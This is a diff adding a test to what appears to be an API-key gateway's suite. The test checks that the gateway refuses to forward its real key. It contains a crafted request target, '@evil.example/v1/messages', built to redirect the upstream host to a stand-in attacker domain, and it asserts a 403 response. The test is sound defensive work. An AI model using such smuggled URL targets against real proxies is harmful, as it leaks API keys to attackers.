@@ -96,6 +96,28 @@ async def test_a_wrong_token_and_the_token_after_the_run_are_refused(
     assert scenario.messages_requests == [], "nothing reached the model API"
 
 
+async def test_the_real_key_goes_only_to_the_model_endpoints_of_the_upstream(
+    gateway_and_api: tuple[RunGateway, Scenario],
+) -> None:
+    gateway, scenario = gateway_and_api
+    reader, writer = await asyncio.open_unix_connection(str(gateway.socket_path))
+    # a target that would turn the upstream host into user-info of another authority
+    writer.write(
+        f"POST @evil.example/v1/messages HTTP/1.1\r\nx-api-key: {gateway.token}\r\n"
+        "content-length: 2\r\n\r\n{}".encode()
+    )
+    await writer.drain()
+    head = await asyncio.wait_for(reader.read(), 5)
+    writer.close()
+    assert head.startswith(b"HTTP/1.1 403")
+    async with client(gateway) as http:
+        other = await http.post(
+            "/v1/organizations/usage", json={}, headers={"x-api-key": gateway.token}
+        )
+    assert other.status_code == 403
+    assert scenario.requests == [], "nothing left the gateway"
+
+
 async def test_429_is_reported_as_backpressure_with_its_retry_after(
     tmp_path: Path, fake_api: FakeAnthropic, events: Events
 ) -> None:
